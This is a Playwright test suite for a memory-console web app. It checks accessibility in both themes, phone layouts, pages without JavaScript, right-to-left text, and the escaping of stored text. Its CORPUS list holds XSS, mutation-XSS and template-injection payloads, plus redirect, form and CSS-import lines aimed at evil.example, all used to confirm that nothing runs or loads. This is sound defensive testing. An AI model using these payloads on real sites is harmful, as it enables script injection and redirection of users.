"""Each page as a browser shows it: readable for everybody, in both themes, on a phone, and nothing runs but ours."""

from pathlib import Path
from typing import Any

import pytest

from console.seeding import MANY
from console.sites import Site

AXE = (Path(__file__).parent / "node_modules" / "axe-core" / "axe.min.js").read_text(encoding="utf-8")
_PAGES = [
    *(
        "/",
        "/?q=deploy+key",
        "/?q=zzz",
        "/?scope=work&tag=deploy",
        "/console/timeline",
        "/console/browse",
        "/console/trash",
    ),
    *("/console/trash", "/console/new", "/console/transfer", "/console/imports", "/console/nothing", "/?q=deploy"),
    *("/docs", "/docs/agent"),
    *(f"{name}:{action}" for name in ("key", "episode", "job") for action in ("", "edit", "forget")),
    "deleted:",
]

# Texts that ran somewhere once: tags, handlers, templates, broken ends, other names of the same characters.
CORPUS = [
    "<script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<a href=javascript:window.pwned=1>click</a>",
    "javascript:window.pwned=1",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<details open ontoggle=window.pwned=1>",
    "<form action=https://evil.example><button>Save</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div hx-get='https://evil.example' hx-trigger='load'>x</div>",
    "<div hx-on::load='window.pwned=1' data-hx-trigger='load' data-hx-get='/'>x</div>",
    "{{ 7*7 }}{% for x in [1] %}<b>{{ x }}</b>{% endfor %}${7*7}<%= 7*7 %>",
    "<!--<img src='--><img src=x onerror=window.pwned=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "\u003cscript\u003ewindow.pwned=1\u003c/script\u003e",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "safe\u202e>tpircs/<1=denwp.wodniw>tpircs<",
    "<style>@import'https://evil.example/x.css';body{display:none}</style>",
    "<x style=background:url(https://evil.example/y)>",
    "a\u0007b\u0008c\u001b[31mred\u2028line\u2029end",
]


def opened(page: Any, site: Site, path: str) -> None:
    name, _, action = path.partition(":")
    page.goto(site.url + path if path.startswith("/") else site.of(name, action))


def findings(page: Any) -> list[str]:
    """axe's serious findings, with the page's own policy in force."""
    page.evaluate(AXE)
    found = page.evaluate("() => axe.run(document, {resultTypes: ['violations']})")
    return [
        f"{each['id']} ({each['impact']}): {node['html'][:160]} {node['failureSummary'][:200]}"
        for each in found["violations"]
        if each["impact"] in ("serious", "critical", "moderate")
        for node in each["nodes"]
    ]


@pytest.mark.parametrize("path", _PAGES)
def test_a_page_has_no_obstacle_in_light_and_in_dark(page: Any, looked_at: Site, path: str) -> None:
    opened(page, looked_at, path)
    assert findings(page) == []
    page.emulate_media(color_scheme="dark")
    assert findings(page) == []


def test_the_pages_before_there_is_anything_and_without_a_session_have_no_obstacle(
    page: Any, empty_site: Site, guarded: tuple[Site, Any]
) -> None:
    for url in (f"{empty_site.url}/", f"{empty_site.url}/console/browse", f"{empty_site.url}/console/timeline"):
        page.goto(url)
        assert findings(page) == []
    page.goto(guarded[0].url)
    assert page.get_by_label("API key").is_visible()
    assert findings(page) == []


@pytest.mark.parametrize("path", _PAGES)
def test_a_page_fits_a_phone(page: Any, looked_at: Site, path: str) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    opened(page, looked_at, path)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


def test_stored_text_of_any_kind_is_shown_as_text(page: Any, empty_site: Site) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    ids = [
        empty_site.memory.core.save(
            content=text,
            context=text[:200],
            tags=[text[:60]],
            metadata={"text": text},
            messages=[{"role": "user", "content": text, "speaker": text[:60]}],
        )["id"]
        for text in CORPUS
    ]
    paths = [
        "/",
        "/console/timeline",
        "/console/browse",
        "/?q=window+pwned",
        *(f"/console/memories/{id}" for id in ids),
    ]
    paths += [f"/console/memories/{id}/edit" for id in ids]
    for path in paths:
        page.goto(empty_site.url + path)
        assert page.evaluate("window.pwned") is None, path
        assert page.locator("main iframe, main img, main script, main style, main b, main base, main meta").count() == 0
    assert [url for url in requested if not url.startswith(empty_site.url)] == []
    for id, text in zip(ids, CORPUS, strict=True):
        page.goto(f"{empty_site.url}/console/memories/{id}/edit")
        assert page.get_by_label("Text", exact=True).input_value() == text


def test_a_text_that_turns_direction_turns_nothing_around_it(page: Any, empty_site: Site) -> None:
    id = empty_site.memory.core.save(content="\u202eabc \u2067 def", scope="left/right")["id"]
    page.goto(f"{empty_site.url}/console/memories/{id}")
    shown = page.locator(".memory-text").inner_text()
    assert shown == "U+202Eabc U+2067 def"
    assert page.locator(".crumb").inner_text() == "Memories / left/right"


@pytest.mark.xdist_group("large")
def test_thousands_of_memories_are_scrolled_to_the_end_and_each_is_met_once(page: Any, large_site: Site) -> None:
    page.goto(f"{large_site.url}/console/timeline")
    page.set_default_timeout(0)
    seen = page.evaluate(
        """async () => {
            const count = () => document.querySelectorAll("#rows .row").length;
            while (document.querySelector("#rows .more")) {
                const before = count();
                const settled = new Promise((resolve) => {
                    addEventListener("htmx:afterSettle", resolve, { once: true, capture: true });
                    setTimeout(resolve, 30000);
                });
                scrollTo(0, document.body.scrollHeight);
                await settled;
                if (count() === before) break;
            }
            return [...document.querySelectorAll("#rows .row .text")].map((each) => each.textContent);
        }"""
    )
    numbers = [int(text.split("Note ")[1].split(" ")[0]) for text in seen]
    assert len(numbers) == MANY
    assert len(set(numbers)) == MANY


@pytest.mark.xdist_group("large")
def test_without_scripts_memories_are_found_paged_and_changed(engine: Any, site: Site, large_site: Site) -> None:
    context = engine.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        page.goto(site.url)
        page.get_by_label("Search memories").fill("deploy key")
        page.get_by_label("Search memories").press("Enter")
        page.get_by_role("link", name="The staging deploy key").click()
        page.get_by_role("button", name="Delete").click()
        page.get_by_role("button", name="Undo").click()
        assert page.get_by_text("Restored.").is_visible()
        page.goto(large_site.url)
        first = page.locator("#rows .text").first.inner_text()
        page.get_by_role("link", name="More memories").click()
        assert page.locator("#rows .row").count() == 25
        assert page.locator("#rows .text").first.inner_text() != first
    finally:
        context.close()


def test_markdown_is_rendered_and_nothing_of_it_is_loaded(page: Any, empty_site: Site) -> None:
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    text = (
        "# Release\n\n- **Build** it\n\n![a picture](https://evil.example/p.gif) <img src=https://evil.example/q.gif>\n\n"
        "| a | b |\n|---|---|\n| " + "x" * 400 + " | 2 |\n\n```\n" + "y" * 400 + "\n```"
    )
    id = empty_site.memory.core.save(content=text)["id"]
    for width in (1200, 390):
        page.set_viewport_size({"width": width, "height": 800})
        page.goto(f"{empty_site.url}/console/memories/{id}")
        assert page.locator(".markdown li strong").inner_text() == "Build"
        assert page.get_by_role("link", name="a picture").get_attribute("rel") == "noopener noreferrer nofollow"
        assert page.locator("main img").count() == 0
        assert findings(page) == []
        assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert [url for url in requested if not url.startswith(empty_site.url)] == []
    page.goto(empty_site.url)
    assert "Release · Build it · a picture" in page.locator("#rows .text").inner_text()


def test_a_memory_of_32_kib_without_a_space_fits_a_phone(page: Any, empty_site: Site) -> None:
    page.set_viewport_size({"width": 390, "height": 800})
    id = empty_site.memory.core.save(content="x" * 32768)["id"]
    for path in ("/", "/?q=x", "/console/timeline", f"/console/memories/{id}", f"/console/memories/{id}/edit"):
        page.goto(empty_site.url + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path


def test_the_navigation_fits_a_phone(page: Any, site: Site) -> None:
    page.set_viewport_size({"width": 390, "height": 800})
    page.goto(site.url)
    for link in page.get_by_role("navigation").get_by_role("link").all():
        box = link.bounding_box()
        assert box is not None
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= 390
    page.goto(f"{site.url}/?q=deploy")
    heights = [each.bounding_box()["height"] for each in page.locator("#rows .why").all()]
    assert heights
    assert max(heights) < 24  # one line


def test_the_pages_of_a_choice_and_of_an_import_have_no_obstacle_and_fit_a_phone(page: Any, site: Site) -> None:
    def check() -> None:
        assert findings(page) == []
        page.set_viewport_size({"width": 390, "height": 800})
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        assert findings(page) == []
        page.set_viewport_size({"width": 1200, "height": 800})

    def choose(*names: str) -> None:
        page.goto(site.url)
        for name in names:
            page.locator(f'.choose input[value^="{site.ids[name]}:"]').check()

    choose("food", "report")
    check()
    for what in ("Tag…", "Move…", "Merge…"):
        choose("food", "report")
        page.get_by_role("button", name=what).click()
        check()
    choose("food")
    page.get_by_role("button", name="Delete", exact=True).click()
    check()
    files = {"name": "notes.md", "mimeType": "text/markdown", "buffer": b"# A\n\nOne.\n"}
    page.goto(f"{site.url}/console/transfer")
    page.locator("[type=file]").set_input_files(files)
    page.get_by_role("button", name="Import", exact=True).click()
    page.get_by_role("link", name="This import").click()
    check()


def test_a_row_is_set_in_the_direction_of_its_text(page: Any, site: Site) -> None:
    """Arabic from the right, so that its ellipsis is where its last line ends; German from the left."""
    texts = {"rtl": "نجتمع كل يوم ثلاثاء الساعة 10:30 صباحًا. " * 20, "ltr": "Die Versicherung zahlt. " * 20}
    for direction, text in texts.items():
        id = site.memory.core.save(content=text, tags=["directions"])["id"]
        opened(page, site, "/?tag=directions")
        words = page.locator(f'.row[data-id="{id}"] .text bdi')
        style = words.evaluate("each => [getComputedStyle(each).direction, getComputedStyle(each).webkitLineClamp]")
        assert style == [direction, "3"]
        assert words.inner_text().endswith("…")
